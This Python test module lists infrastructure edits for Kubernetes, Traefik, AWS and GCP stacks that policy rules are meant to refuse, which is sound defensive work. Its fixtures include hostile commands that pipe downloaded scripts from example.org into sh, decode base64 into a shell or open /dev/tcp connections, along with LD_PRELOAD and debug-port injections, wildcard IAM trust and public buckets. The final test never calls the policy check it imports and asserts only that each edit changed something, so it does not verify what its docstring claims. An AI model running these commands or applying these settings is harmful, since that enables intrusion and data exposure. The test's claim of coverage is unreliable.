"""Edits that a careful reviewer refuses, each made to what the program renders, with the rule that must find it.

An edit stands for its kind: beside the first of each there are other spellings of the same mistake. Another rule may
see another side of it; the one that is named here must.
"""

import json
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, replace
from typing import Any, Final

from policies.check import check
from policies.model import Resource
from policies.rule import Level
from policies.rules import BY_NAME
from tests.graph.test_policies import EDITS, config_of, resources_of
from tests.unit.policies.good import ABSENT, place

Change = Callable[[Any], Any]
Edited = Callable[[tuple[Resource, ...]], list[Resource]]


@dataclass(frozen=True)
class Refused:
    """An edit with its rule and the stack that it is made to."""

    rule: str
    what: str
    edit: Edited
    stack: str = "dev"


def changed(resource: str, change: Change) -> Edited:
    """Changes the properties of one resource (`kind/logical name`)."""

    def edit(resources: tuple[Resource, ...]) -> list[Resource]:
        (index,) = (i for i, r in enumerate(resources) if f"{r.kind}/{r.name}" == resource and _is_real(r))
        return _with(resources, index, change)

    return edit


def _is_real(resource: Resource) -> bool:
    """Whether it is no component, which groups others under the same name."""
    return bool(resource.provider) or resource.type.startswith("pulumi:providers:")


def _with(resources: tuple[Resource, ...], index: int, change: Change) -> list[Resource]:
    properties = deepcopy(dict(resources[index].properties))
    change(properties)
    return [*resources[:index], replace(resources[index], properties=properties), *resources[index + 1 :]]


def set_to(*path: Any) -> Change:
    """Sets the value at a path; the last argument is the value."""
    *steps, value = path
    return lambda properties: place(properties, tuple(steps), value)


def without(*path: Any) -> Change:
    """Takes the value at a path away."""
    return set_to(*path, ABSENT)


def statement(field: str, change: Change) -> Change:
    """Changes a policy document, which is JSON."""

    def run(properties: Any) -> None:
        document = json.loads(properties[field])
        change(document["Statement"])
        properties[field] = json.dumps(document)

    return run


def added(api: str, kind: str, namespace: str = "flatline", /, **fields: Any) -> Edited:
    """A further object."""

    def edit(resources: tuple[Resource, ...]) -> list[Resource]:
        metadata = {"name": "added", **({"namespace": namespace} if namespace else {})}
        extra = Resource(
            urn=f"urn:added:{kind}",
            type=f"kubernetes:{api}:{kind}",
            name="added",
            properties={"kind": kind, "metadata": metadata, **fields},
        )
        return [*resources, extra]

    return edit


def cloud(token: str, **properties: Any) -> Edited:
    """A further resource of a cloud."""

    def edit(resources: tuple[Resource, ...]) -> list[Resource]:
        return [*resources, Resource(urn="urn:added", type=token, name="added", properties=properties)]

    return edit


def unprotected(resource: str) -> Edited:
    def edit(resources: tuple[Resource, ...]) -> list[Resource]:
        return [
            replace(r, protect=False, retain_on_delete=False) if f"{r.kind}/{r.name}" == resource else r
            for r in resources
        ]

    return edit


POD: Final = ("spec", "template", "spec")
C: Final = (*POD, "containers", 0)


def pod(rule: str, *path: Any, of: str = "Deployment/whisper") -> Refused:
    return Refused(
        rule, f"{of}: {'.'.join(map(str, path[:-1]))} {str(path[-1])[:60]}", changed(of, set_to(*POD, *path))
    )


def variable(name: str, value: str) -> Change:
    """A further variable of the first container."""

    def change(properties: Any) -> None:
        container = properties["spec"]["template"]["spec"]["containers"][0]
        container["env"] = [*container.get("env", []), {"name": name, "value": value}]

    return change


def env(name: str, value: str) -> Refused:
    change = variable(name, value)
    return Refused("pod-foreign-code", f"{name}={value}", changed("Deployment/whisper", change))


def runs(*words: str) -> Refused:
    return Refused("pod-foreign-code", " ".join(words), changed("Deployment/whisper", set_to(*C, "command", [*words])))


PODS: Final = [
    pod("pod-shared-processes", "shareProcessNamespace", True),
    pod("pod-name-resolution", "hostAliases", [{"ip": "203.0.113.9", "hostnames": ["redis.flatline.svc"]}]),
    pod("pod-name-resolution", "dnsPolicy", "None"),
    pod("pod-name-resolution", "dnsPolicy", "Default"),
    pod("pod-name-resolution", "dnsConfig", {"nameservers": ["203.0.113.53"]}),
    pod("pod-name-resolution", "dnsConfig", {"searches": ["example.org"]}),
    pod("pod-root-user", "securityContext", "fsGroup", 0),
    pod("pod-root-user", "securityContext", "runAsGroup", 0),
    pod("pod-root-user", "securityContext", "supplementalGroups", [0]),
    pod("pod-references", "volumes", 0, {"name": "flatline-wait", "secret": {"secretName": "somebody-elses"}}),
    pod("pod-references", "volumes", 4, {"name": "x", "projected": {"sources": [{"secret": {"name": "root"}}]}}),
    pod("pod-references", "containers", 0, "envFrom", [{"secretRef": {"name": "somebody-elses"}}]),
    pod("pod-references", "imagePullSecrets", [{"name": "somebody-elses"}]),
    pod("pod-references", "volumes", 4, {"name": "x", "configMap": {"name": "kube-root-ca.crt"}}),
    pod("pod-volume-types", "volumes", 4, {"name": "x", "csi": {"driver": "secrets-store.csi.k8s.io"}}),
    pod("pod-volume-types", "volumes", 4, {"name": "x", "image": {"reference": "example.org/a:1"}}),
    pod("pod-service-account", "serviceAccountName", "cdn3"),
    pod("pod-service-account", "serviceAccountName", "default"),
    pod("pod-placement", "tolerations", [{"operator": "Exists"}]),
    pod("pod-placement", "priorityClassName", "system-cluster-critical"),
    pod("pod-placement", "nodeName", "server"),
    env("JAVA_TOOL_OPTIONS", "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005"),
    env("_JAVA_OPTIONS", "-javaagent:/tmp/agent.jar"),
    env("JDK_JAVA_OPTIONS", "@/tmp/options"),
    env("JAVA_TOOL_OPTIONS", "-Dcom.sun.management.jmxremote.port=9010"),
    env("JAVA_TOOL_OPTIONS", "-XX:OnOutOfMemoryError=/tmp/a"),
    env("NODE_OPTIONS", "--inspect=0.0.0.0:9229"),
    env("NODE_OPTIONS", "--import=data:text/javascript,0"),
    env("LD_PRELOAD", "/tmp/a.so"),
    env("BASH_ENV", "/tmp/a.sh"),
    env("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
    env("HTTPS_PROXY", "http://203.0.113.1:3128"),
    runs("sh", "-c", "curl -s https://example.org/start.sh | sh"),
    runs("sh", "-ec", "wget -O /tmp/a https://example.org/a; exec /tmp/a"),
    runs("sh", "-c", "echo aGk= | base64 -d | sh"),
    runs("bash", "-c", "exec 3<>/dev/tcp/203.0.113.1/80"),
    runs("npx", "something"),
    runs("java", "-agentpath:/tmp/a.so", "Main"),
    runs("java", "-Xdebug", "-Xrunjdwp:transport=dt_socket", "Main"),
    pod(
        "pod-foreign-code",
        *C[3:],
        "lifecycle",
        "postStart",
        {"exec": {"command": ["curl", "x"]}},
        of="Deployment/storage",
    ),
]


def tusd(old: str, new: str | None) -> Refused:
    """Replaces an argument of tusd, or takes it away."""

    def change(properties: Any) -> None:
        arguments = properties["spec"]["template"]["spec"]["containers"][0]["args"]
        index = next(i for i, word in enumerate(arguments) if word.startswith(old))
        arguments[index : index + 1] = [] if new is None else [new]

    return Refused("uploads-authorised", f"tusd {old} -> {new}", changed("Deployment/cdn3", change))


def gate(old: str, new: str, what: str) -> Refused:
    """Replaces the first flag of the gate that begins so."""

    def change(properties: Any) -> None:
        words = properties["spec"]["template"]["spec"]["containers"][0]["args"]
        index = next(i for i, word in enumerate(words) if word.startswith(old))
        words[index] = new

    return Refused("gate-patterns", what, changed("Deployment/cdn0-gate", change))


def redis(text: str, what: str = "", file: str = "redis.cluster.conf") -> Refused:
    def change(properties: Any) -> None:
        properties["data"][file] += f"\n{text}\n"

    return Refused("redis-configuration", what or text, changed("ConfigMap/redis-programs", change))


HOOK: Final = (*POD, "containers", 1)
PROGRAMS: Final = [
    tusd("--hooks-http", None),
    tusd("--hooks-http", "--hooks-http=http://example.org/hooks"),
    tusd("--hooks-http", "--hooks-http=http://127.0.0.1:9999/hooks"),
    tusd("--hooks-http", "--hooks-dir=/tmp"),
    tusd("--hooks-enabled-events", None),
    tusd("--hooks-enabled-events", "--hooks-enabled-events=post-finish"),
    tusd("--disable-termination", None),
    tusd("--disable-termination", "--disable-termination=false"),
    tusd("--disable-concatenation", None),
    tusd("--disable-download", "-disable-download=0"),
    tusd("--disable-cors", None),
    tusd("--max-size", None),
    tusd("--max-size", "--max-size=0"),
    tusd("--expose-metrics", "--expose-metrics"),
    tusd("--behind-proxy", "--expose-pprof"),
    tusd("--host", "word"),
    pod("uploads-authorised", "containers", 1, "args", 1, "0.0.0.0:8081", of="Deployment/cdn3"),
    pod("uploads-authorised", "containers", 1, "args", 1, ":8081", of="Deployment/cdn3"),
    Refused("uploads-authorised", "no hook", changed("Deployment/cdn3", without(*HOOK))),
    gate("--read=", "--read=.*", "reads everything"),
    gate("--read=profiles", "--read=profiles/.+", "reads a whole folder"),
    gate("--read=profiles", "--read=profiles/[^/]{22}", "reads by exclusion"),
    gate("--upload=profiles", f"--upload=profiles:{5 * 1024**3}:profiles/[a-z]{{22}}", "5 GiB"),
    gate("--upload=profiles", "--upload=profiles::profiles/[a-z]{22}", "no size"),
    gate("--upload=profiles", "--upload=profiles:1000:(?:profiles|groups)/\\S*", "uploads anywhere"),
    gate("--s3-endpoint", "--s3-endpoint=http://203.0.113.1:4566", "somebody else's store"),
    redis("protected-mode no"),
    redis("exec redis-server --protected-mode no", file="redis.start.sh"),
    redis("maxmemory-policy allkeys-lru"),
    redis("enable-debug-command yes"),
    redis("user default on nopass ~* +@all"),
    redis("appendonly no"),
    redis("appendfsync everysec"),
    redis("bind * -::*"),
]

EGRESS: Final = ("spec", "egress", 1)
INGRESS: Final = ("spec", "ingress", 0)
NAME: Final = "app.kubernetes.io/name"
PLACE: Final = "kubernetes.io/metadata.name"


def policy(rule: str, *path: Any, of: str = "whisper") -> Refused:
    return Refused(rule, f"{of}: {path}", changed(f"NetworkPolicy/{of}", set_to(*path)))


def expression(key: str, operator: str, *values: str) -> dict[str, Any]:
    return {"matchExpressions": [{"key": key, "operator": operator, **({"values": [*values]} if values else {})}]}


def outside(cidr: str, port: int = 80, **more: Any) -> dict[str, Any]:
    return {"to": [{"ipBlock": {"cidr": cidr, **more}}], "ports": [{"port": port, "protocol": "TCP"}]}


def inside(name: str, port: int) -> dict[str, Any]:
    labels = {NAME: name, "app.kubernetes.io/part-of": "flatline"}
    peer = {"namespaceSelector": {"matchLabels": {PLACE: "flatline"}}, "podSelector": {"matchLabels": labels}}
    return {"from": [peer], "ports": [{"port": port, "protocol": "TCP"}]}


TRAEFIK: Final = {
    "namespaceSelector": {"matchLabels": {PLACE: "kube-system"}},
    "podSelector": {"matchLabels": {NAME: "traefik"}},
}
NETWORK: Final = [
    policy("network-wide", *EGRESS, "ports", [{"protocol": "TCP"}]),
    policy("network-wide", *EGRESS, "ports", []),
    policy("network-wide", *EGRESS, "ports", 0, "endPort", 65535),
    policy("network-wide", *EGRESS, "ports", [{}]),
    *(
        policy("network-wide", *EGRESS, "to", 0, "podSelector", selector)
        for selector in (
            expression(NAME, "Exists"),
            expression(NAME, "NotIn", "nobody"),
            expression("nobody", "DoesNotExist"),
            expression(NAME, "In", "redis", "redis-pubsub", "registration"),
            {"matchLabels": {"app.kubernetes.io/part-of": "flatline"}},
            {"matchLabels": {"app.kubernetes.io/component": "redis"}},
            {"matchLabels": {"app.kubernetes.io/instance": "flatline"}},
            {},
        )
    ),
    *(
        policy("network-wide", *EGRESS, "to", 0, "namespaceSelector", selector)
        for selector in (
            {},
            expression(PLACE, "Exists"),
            expression(PLACE, "NotIn", "kube-public"),
            {"matchLabels": {"pod-security.kubernetes.io/enforce": "restricted"}},
        )
    ),
    policy("network-wide", "spec", "egress", 0, "to", 0, "podSelector", expression("k8s-app", "Exists")),
    policy("network-wide", *EGRESS, "to", [{"ipBlock": {"cidr": "0.0.0.0/1"}}]),
    policy("network-wide", *INGRESS, "from", [{"ipBlock": {"cidr": "10.42.0.0/16"}}]),
    policy("network-wide", *INGRESS, {}),
    policy("network-wide", "spec", "podSelector", {"matchLabels": {"app.kubernetes.io/part-of": "flatline"}}),
    policy("network-wide", "spec", "podSelector", expression(NAME, "Exists")),
    Refused("network-wide", "Cilium", added("cilium.io/v2", "CiliumNetworkPolicy", spec={"egress": [{}]})),
    Refused("network-wide", "Calico", added("crd.projectcalico.org/v1", "GlobalNetworkPolicy", "", spec={})),
    policy("network-agreement", "spec", "ingress", 11, inside("registration", 6379), of="redis"),
    policy("network-agreement", "spec", "ingress", 11, inside("storage", 16379), of="redis"),
    policy("network-agreement", "spec", "ingress", 1, inside("whisper-persister", 50051), of="registration"),
    policy("network-agreement", *EGRESS, "ports", 0, "port", 16379),
    policy("network-agreement", *EGRESS, "ports", 0, "protocol", "UDP"),
    policy("network-proxy", "spec", "ingress", 1, {"from": [TRAEFIK], "ports": [{"port": 8081, "protocol": "TCP"}]}),
    policy("network-proxy", "spec", "ingress", 0, "ports", 1, {"port": "admin", "protocol": "TCP"}),
    policy("network-proxy", "spec", "ingress", 11, {"from": [TRAEFIK], "ports": [{"port": 6379}]}, of="redis"),
    policy("network-orphan", *INGRESS, "from", 0, "namespaceSelector", "matchLabels", PLACE, "kube-sytem"),
    policy("network-orphan", "spec", "egress", 0, "to", 0, "namespaceSelector", "matchLabels", PLACE, "kube-dns"),
    policy("network-orphan", *EGRESS, "to", 0, "podSelector", "matchLabels", NAME, "reddis"),
    *(
        policy("network-metadata", "spec", "egress", 7, outside(cidr))
        for cidr in ("169.254.169.254/32", "169.254.0.0/16", "169.254.169.128/25", "fd00:ec2::254/128")
    ),
    policy("network-metadata", "spec", "egress", 7, outside("169.254.170.23/32", 443)),
    policy("network-metadata", "spec", "egress", 7, outside("168.63.129.16/32")),
    policy("network-metadata", "spec", "egress", 7, outside("100.100.0.0/16")),
]


def route(rule: str, of: str, change: Change, what: str) -> Refused:
    return Refused(rule, f"{of}: {what}", changed(f"IngressRoute/ingressroute-{of}", change))


def match(rule: str, of: str, text: str) -> Refused:
    return route(rule, of, set_to("spec", "routes", 0, "match", text), text)


def service(rule: str, name: str, port: int, **more: Any) -> Refused:
    change = set_to("spec", "routes", 0, "services", [{"name": name, "port": port, **more}])
    return route(rule, "whisper", change, f"{name}:{port}")


def middleware(rule: str, of: str, *path: Any) -> Refused:
    return Refused(rule, f"{of}: {path}", changed(f"Middleware/middleware-{of}", set_to("spec", *path)))


def tls(*path: Any) -> Refused:
    return Refused("ingress-tls-version", str(path), changed("TLSOption/tlsoption-tls", set_to("spec", *path)))


def extra(rule: str, kind: str, **spec: Any) -> Refused:
    """A further object of Traefik's."""
    return Refused(rule, f"{kind} {sorted(spec)}", added("traefik.io/v1alpha1", kind, spec=spec))


HOST: Final = "Host(`whisper.flatline.internal`)"
READ: Final = "Host(`cdn0.flatline.internal`) && (Method(`GET`) || Method(`HEAD`))"
EDGE: Final = [
    match("ingress-hosts", "whisper", "PathPrefix(`/`)"),
    match("ingress-hosts", "whisper", f"{HOST} || PathPrefix(`/`)"),
    match("ingress-hosts", "whisper", "HostRegexp(`.*`)"),
    match("ingress-hosts", "whisper", "HostRegexp(`^.+\\.flatline\\.internal$`)"),
    match("ingress-hosts", "whisper", "!Host(`a.example.org`)"),
    match("ingress-hosts", "whisper", f"{HOST} && ("),
    match("ingress-hosts", "whisper", ""),
    match("ingress-scope", "cdn0-read", f"{READ} && PathPrefix(`/`)"),
    match("ingress-scope", "cdn0-read", READ),
    match("ingress-scope", "cdn0-read", f"{READ} && PathRegexp(`.*`)"),
    match("ingress-scope", "cdn0-read", f"{READ} && PathRegexp(`^/(?:profiles|groups)/.+$`)"),
    match("ingress-scope", "cdn0-read", f"{READ} && PathRegexp(`/profiles/[a-z]{{22}}`)"),
    match("ingress-scope", "cdn0-read", "Host(`cdn0.flatline.internal`) && Path(`/profiles`)"),
    match(
        "ingress-scope", "cdn0-read", "Host(`cdn0.flatline.internal`) && Method(`DELETE`) && PathPrefix(`/profiles`)"
    ),
    match("ingress-scope", "cdn3-upload", "Host(`cdn3.flatline.internal`) && PathPrefix(`/attachments/`)"),
    match(
        "ingress-scope",
        "cdn3-upload",
        "Host(`cdn3.flatline.internal`) && PathPrefix(`/attachments/`) && (Method(`GET`) || Method(`POST`))",
    ),
    route("ingress-scope", "storage", set_to("spec", "routes", 0, "priority", 10000), "a priority of its own"),
    route("ingress-limits", "whisper", without("spec", "routes", 0, "middlewares"), "no middlewares"),
    route("ingress-headers", "whisper", without("spec", "routes", 0, "middlewares"), "no middlewares"),
    route("ingress-limits", "whisper", without("spec", "routes", 0, "middlewares", 0), "no in-flight"),
    route("ingress-limits", "cdn0-read", without("spec", "routes", 0, "middlewares", 1), "no rate limit"),
    route("ingress-headers", "storage", without("spec", "routes", 0, "middlewares", 2), "no headers"),
    route("ingress-limits", "whisper", set_to("spec", "routes", 0, "middlewares", 0, "name", "gone"), "one is gone"),
    service("ingress-backends", "gone", 8080),
    service("ingress-backends", "whisper", 9999),
    service("ingress-backends", "otel-collector", 4318),
    service("ingress-backends", "otel-collector", 8889),
    service("ingress-backends", "registration", 50051),
    service("ingress-backends", "redis", 6379),
    service("ingress-backends", "localstack", 4566, namespace="flatline-emulators"),
    service("ingress-backends", "whisper", 8080, kind="TraefikService"),
    route("ingress-tls", "whisper", set_to("spec", "tls", "secretName", "somebody-elses"), "no such certificate"),
    route("ingress-tls", "whisper", set_to("spec", "tls", "secretName", "whisper-config"), "no certificate"),
    tls("maxVersion", "VersionTLS11"),
    tls("maxVersion", "VersionTLS12"),
    tls("minVersion", "VersionTLS10"),
    tls("cipherSuites", ["TLS_RSA_WITH_AES_128_CBC_SHA"]),
    tls("cipherSuites", 0, "TLS_RSA_WITH_AES_256_GCM_SHA384"),
    tls("cipherSuites", 0, "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256"),
    tls("cipherSuites", 0, "TLS_ECDHE_RSA_WITH_3DES_EDE_CBC_SHA"),
    tls("cipherSuites", []),
    tls("sniStrict", False),
    middleware("ingress-headers", "headers", "headers", "customRequestHeaders", {}),
    middleware("ingress-headers", "headers", "headers", "customRequestHeaders", "Forwarded", "for=203.0.113.1"),
    middleware("ingress-headers", "headers", "headers", "stsSeconds", 0),
    middleware("ingress-headers", "headers", "headers", "contentTypeNosniff", False),
    middleware("ingress-limits", "rate-limit", "rateLimit", "average", 10**9),
    middleware("ingress-limits", "rate-limit", "rateLimit", "average", 0),
    middleware("ingress-limits", "rate-limit", "rateLimit", "period", "1ns"),
    middleware("ingress-limits", "rate-limit", "rateLimit", "burst", 10**9),
    middleware("ingress-limits", "in-flight", "inFlightReq", "amount", 10**9),
    middleware("ingress-trust", "rate-limit", "rateLimit", "sourceCriterion", {"ipStrategy": {"depth": 1}}),
    middleware("ingress-trust", "rate-limit", "rateLimit", "sourceCriterion", {"requestHeaderName": "X-Key"}),
    middleware("ingress-trust", "in-flight", "inFlightReq", "sourceCriterion", {"requestHost": True}),
    middleware("ingress-trust", "headers", "headers", "customRequestHeaders", "X-Forwarded-For", "203.0.113.1"),
    middleware("ingress-trust", "no-query", "redirectRegex", "replacement", "https://example.org/"),
    extra("ingress-trust", "Middleware", ipAllowList={"sourceRange": ["203.0.113.1/32"], "ipStrategy": {"depth": 2}}),
    extra("ingress-trust", "Middleware", forwardAuth={"address": "http://a.flatline.svc", "trustForwardHeader": True}),
    extra("ingress-trust", "Middleware", plugin={"a": {}}),
    extra("ingress-trust", "ServersTransport", insecureSkipVerify=True),
    extra("ingress-trust", "ServersTransportTCP", tls={"insecureSkipVerify": True}),
    extra("ingress-kinds", "IngressRouteUDP", routes=[{"services": [{"name": "otel-collector", "port": 8125}]}]),
    extra("ingress-kinds", "IngressRouteTCP", routes=[]),
    extra("ingress-kinds", "TraefikService", mirroring={}),
    Refused("ingress-kinds", "gateway", added("gateway.networking.k8s.io/v1", "HTTPRoute", spec={})),
    Refused("service-endpoints", "slice", added("discovery.k8s.io/v1", "EndpointSlice", endpoints=[])),
    Refused("service-endpoints", "endpoints", added("core/v1", "Endpoints", subsets=[])),
]

RBAC: Final = "rbac.authorization.k8s.io/v1"


def role(*rules: tuple[str, str]) -> Edited:
    written = [{"apiGroups": [""], "resources": [name], "verbs": verbs.split()} for name, verbs in rules]
    return added(RBAC, "Role", rules=written)


def binding(role: str, kind: str, name: str, namespace: str = "flatline") -> Edited:
    return added(
        RBAC,
        "ClusterRoleBinding",
        "",
        roleRef={"kind": "ClusterRole", "name": role},
        subjects=[{"kind": kind, "name": name, "namespace": namespace}],
    )


RIGHTS: Final = [
    *(
        Refused(rule, f"{name} {verbs}", role((name, verbs)))
        for name, verbs in (
            ("secrets", "get list"),
            ("pods/exec", "create"),
            ("pods/attach", "create"),
            ("pods", "create"),
            ("cronjobs", "patch"),
            ("nodes/proxy", "get"),
            ("serviceaccounts/token", "create"),
            ("clusterroles", "escalate"),
            ("roles", "bind"),
            ("users", "impersonate"),
            ("mutatingwebhookconfigurations", "create update"),
            ("certificatesigningrequests/approval", "update"),
            ("networkpolicies", "delete"),
        )
        for rule in ("rbac-dangerous", "rbac-unneeded")
    ),
    Refused("rbac-unneeded", "a harmless role", role(("configmaps", "get"))),
    Refused("rbac-unneeded", "view", binding("view", "ServiceAccount", "whisper")),
    Refused("rbac-broad-bindings", "view", binding("view", "ServiceAccount", "whisper")),
    Refused("rbac-broad-bindings", "edit elsewhere", binding("edit", "ServiceAccount", "default", "default")),
    Refused("rbac-broad-bindings", "a user", binding("own", "User", "somebody")),
    Refused("rbac-legacy-token", "token", added("core/v1", "Secret", type="kubernetes.io/service-account-token")),
    *(
        Refused("rbac-cluster-extension", kind, added(api, kind, ""))
        for api, kind in (
            ("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration"),
            ("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration"),
            ("apiregistration.k8s.io/v1", "APIService"),
            ("apiextensions.k8s.io/v1", "CustomResourceDefinition"),
        )
    ),
]


def grant(rule: str, what: str, **fields: Any) -> Refused:
    def change(statements: Any) -> None:
        statements[0].update(fields)

    return Refused(rule, what, changed("RolePolicy/cdn0-gate", statement("policy", change)), "prod")


def trust(what: str, change: Change) -> Refused:
    run = statement("assumeRolePolicy", lambda statements: change(statements[0]))
    return Refused("iam-trust", what, changed("Role/cdn0-gate", run), "prod")


def prod(rule: str, resource: str, *path: Any) -> Refused:
    return Refused(rule, f"{resource}: {path}", changed(resource, set_to(*path)), "prod")


def bucket_policy(rule: str, what: str, change: Change) -> Refused:
    return Refused(rule, what, changed("BucketPolicy/bucket-cdn0", statement("policy", change)), "prod")


def allowing(principal: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": "*"}


SERVICE_ACCOUNT: Final = "aws:RequestTag/kubernetes-service-account"
ARCHIVED: Final = {"days": 1, "storageClass": "DEEP_ARCHIVE"}
ELSEWHERE: Final = "arn:aws:kms:eu-central-1:999999999999:key/1"
TABLE: Final = "arn:aws:dynamodb:eu-central-1:111122223333:table"
CLOUD: Final = [
    *(
        grant("iam-wildcards", action, Action=[action])
        for action in ("dynamodb:Delete*", "s3:Get*", "s3:?etObject", "s*:GetObject", "*")
    ),
    *(
        grant("iam-wildcards", arn, Resource=[arn])
        for arn in (
            f"{TABLE}/flatline-*",
            f"{TABLE}/*",
            "arn:aws:dynamodb:*:111122223333:table/a",
            "arn:aws:dynamodb:eu-central-1:*:table/a",
            "arn:aws:s3:::flatline-*/groups/*",
            "arn:aws:kms:eu-central-1:111122223333:key/*",
        )
    ),
    *(
        grant("iam-data-only", action, Action=[action])
        for action in (
            "iam:CreateAccessKey",
            "iam:PassRole",
            "sts:AssumeRole",
            "s3:PutBucketPolicy",
            "KMS:PutKeyPolicy",
        )
    ),
    grant("iam-data-only", "another account", Resource=["arn:aws:dynamodb:eu-central-1:999999999999:table/a"]),
    prod("iam-wildcards", "Role/cdn0-gate", "managedPolicyArns", ["arn:aws:iam::aws:policy/ReadOnlyAccess"]),
    Refused(
        "iam-wildcards",
        "attached",
        cloud(
            "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
            policyArn="arn:aws:iam::aws:policy/job-function/ViewOnlyAccess",
        ),
        "prod",
    ),
    trust("everybody", set_to("Principal", "*")),
    trust("every account", set_to("Principal", {"AWS": "*"})),
    trust("another account", set_to("Principal", {"AWS": "arn:aws:iam::999999999999:root"})),
    trust("another account by number", set_to("Principal", {"AWS": "999999999999"})),
    trust("the whole account", set_to("Principal", {"AWS": "arn:aws:iam::111122223333:root"})),
    trust("another service", set_to("Principal", {"Service": "ec2.amazonaws.com"})),
    trust(
        "an issuer without a subject", set_to("Principal", {"Federated": "arn:aws:iam::111122223333:oidc-provider/a"})
    ),
    trust("no conditions", without("Condition")),
    trust("no service account", without("Condition", "StringEquals", SERVICE_ACCOUNT)),
    trust("no account", without("Condition", "StringEquals", "aws:SourceAccount")),
    trust("any service account", set_to("Condition", "StringEquals", SERVICE_ACCOUNT, ["cdn0-gate", "whisper"])),
    trust("another service account", set_to("Condition", "StringEquals", SERVICE_ACCOUNT, "whisper")),
    trust("like", set_to("Condition", {"StringLike": {SERVICE_ACCOUNT: "*"}})),
    trust("if exists", lambda s: s.update(Condition={"StringEqualsIfExists": s["Condition"]["StringEquals"]})),
    trust("what is left out", lambda s: s.update(NotPrincipal=s.pop("Principal"))),
    prod("iam-trust", "PodIdentityAssociation/cdn0-gate", "serviceAccount", "default"),
    prod("kms-policy", "Key/encryption", "policy", json.dumps({"Statement": [{**allowing("*"), "Action": "kms:*"}]})),
    prod("kms-policy", "Key/encryption", "bypassPolicyLockoutSafetyCheck", True),
    prod("kms-available", "Key/encryption", "isEnabled", False),
    prod("kms-available", "Key/encryption", "deletionWindowInDays", 7),
    prod("kms-account", "Table/dynamodb-Accounts", "serverSideEncryption", "kmsKeyArn", ELSEWHERE),
    prod("kms-account", "ReplicationGroup/redis", "kmsKeyId", ELSEWHERE),
    prod("elasticache-authentication", "ReplicationGroup/redis", "authToken", "password"),
    prod("elasticache-authentication", "ReplicationGroup/redis", "authToken", "passwordpasswordpasswordpassword"),
    prod("elasticache-failover", "ReplicationGroup/redis", "multiAzEnabled", False),
    prod("elasticache-failover", "ReplicationGroup/redis", "automaticFailoverEnabled", False),
    prod("elasticache-eviction", "ParameterGroup/redis", "parameters", 1, "value", "allkeys-lru"),
    prod("elasticache-eviction", "ParameterGroup/redis", "parameters", 1, "value", "volatile-ttl"),
    prod("elasticache-eviction", "ParameterGroup/redis-pubsub", "parameters", 0, "value", "allkeys-random"),
    *(
        prod("security-group-wide", "SecurityGroupIngressRule/redis-10.20.0.0/16", name, value)
        for name, value in (
            ("cidrIpv4", "0.0.0.0/0"),
            ("cidrIpv4", "10.0.0.0/8"),
            ("cidrIpv6", "::/0"),
            ("toPort", 65535),
            ("ipProtocol", "-1"),
            ("prefixListId", "pl-1"),
        )
    ),
    prod("security-group-wide", "SecurityGroup/redis", "ingress", [{"cidrBlocks": ["0.0.0.0/0"], "protocol": "-1"}]),
    prod("dynamodb-expiry", "Table/dynamodb-Accounts", "ttl", {"attributeName": "D", "enabled": True}),
    prod("dynamodb-expiry", "Table/dynamodb-Messages", "ttl", "attributeName", "S"),
    Refused("cloud-data-protected", "a table", unprotected("Table/dynamodb-Accounts"), "prod"),
    Refused("cloud-data-protected", "a bucket", unprotected("Bucket/bucket-pre-keys"), "prod"),
    Refused("cloud-data-protected", "the key", unprotected("Key/encryption"), "prod"),
    Refused("cloud-data-protected", "the groups", unprotected("Instance/groups"), "prod"),
    Refused("cloud-data-protected", "the queues", unprotected("ReplicationGroup/redis"), "prod"),
    prod("cloud-data-protected", "Bucket/bucket-cdn0", "forceDestroy", True),
    prod("s3-public-access", "Bucket/bucket-cdn0", "acl", "public-read"),
    prod("s3-public-access", "Bucket/bucket-cdn0", "acl", "authenticated-read"),
    prod("s3-public-access", "Bucket/bucket-cdn0", "website", {"indexDocument": "index.html"}),
    prod("s3-public-access", "Bucket/bucket-cdn0", "corsRules", [{"allowedOrigins": ["*"], "allowedMethods": ["PUT"]}]),
    *(
        bucket_policy("s3-grants", str(principal), lambda s, principal=principal: s.append(allowing(principal)))
        for principal in ({"AWS": "999999999999"}, "*")
    ),
    bucket_policy("s3-tls-only", "never holds", set_to(0, "Condition", "StringEquals", {"aws:userid": "nobody"})),
    bucket_policy("s3-tls-only", "never holds, in one", set_to(0, "Condition", "Bool", "aws:ViaAWSService", "true")),
    bucket_policy("s3-tls-only", "TLS 1.2 is gone", lambda s: s.pop(1)),
    bucket_policy(
        "s3-tls-only", "TLS 1.0 is enough", set_to(1, "Condition", "NumericLessThan", "s3:TlsVersion", "1.0")
    ),
    prod("s3-expiry", "BucketLifecycleConfiguration/bucket-cdn0", "rules", 0, "expiration", {"days": 1}),
    prod("s3-expiry", "BucketLifecycleConfiguration/bucket-uploads", "rules", 1, "expiration", {"days": 1}),
    prod("s3-expiry", "BucketLifecycleConfiguration/bucket-pre-keys", "rules", 0, "transitions", [ARCHIVED]),
    *(
        prod("bigtable-access", "InstanceIamMember/storage-bigtable.user", name, value)
        for name, value in (
            ("member", "allUsers"),
            ("member", "allAuthenticatedUsers"),
            ("member", "domain:example.org"),
            ("member", "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/a/*"),
            ("role", "roles/bigtable.admin"),
            ("role", "roles/editor"),
        )
    ),
    Refused(
        "bigtable-access",
        "the project",
        cloud("gcp:projects/iAMMember:IAMMember", role="roles/bigtable.user", member="allUsers"),
        "prod",
    ),
    *(
        prod("provider-options", "aws/aws", name, value)
        for name, value in (
            ("skipCredentialsValidation", "true"),
            ("insecure", "true"),
            ("endpoints", '[{"dynamodb": "http://203.0.113.1"}]'),
            ("httpProxy", "http://203.0.113.1"),
            ("allowedAccountIds", "[]"),
            ("secretKey", "horse"),
        )
    ),
]

REFUSED: Final = [*PODS, *PROGRAMS, *NETWORK, *EDGE, *RIGHTS, *CLOUD]


def test_an_edit_that_a_reviewer_refuses_is_found_by_its_rule() -> None:
    for refused in REFUSED:
        edit = f"{refused.rule}: {refused.what}"
        before = resources_of(refused.stack)
        edited = refused.edit(before)
        assert edited != list(before), edit
